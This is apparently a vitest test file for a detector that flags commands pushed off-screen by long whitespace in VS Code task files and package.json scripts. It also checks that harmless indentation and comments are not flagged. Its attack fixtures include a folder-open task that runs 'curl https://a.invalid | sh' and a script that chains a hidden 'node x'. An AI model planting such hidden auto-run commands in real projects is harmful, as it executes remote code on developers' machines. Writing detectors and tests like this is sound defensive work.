import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-offscreen-command.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

const task = (command: string, more: object = {}) =>
  JSON.stringify({ tasks: [{ label: 'env', command, runOptions: { runOn: 'folderOpen' }, ...more }] })

const scripts = (scripts: Record<string, string>) => JSON.stringify({ name: 'x', scripts })

test.each<[string, Files, string[]]>([
  [
    'a task',
    { '.vscode/tasks.json': task(`${' '.repeat(180)}curl https://a.invalid | sh`) },
    ['decisive 11 .vscode/tasks.json:1:217'],
  ],
  [
    'a script behind another',
    { 'package.json': scripts({ start: `next dev${' '.repeat(120)}& node x` }) },
    ['decisive 11 package.json:1:161'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  ['deep indentation', { '.vscode/settings.json': `{\n${' '.repeat(120)}"a": 1\n}` }, []],
  ['a comment far right', { '.vscode/settings.json': `{ "a": 1,${' '.repeat(120)}// why\n}` }, []],
  ['a description', { 'README.md': `a${' '.repeat(300)}b` }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
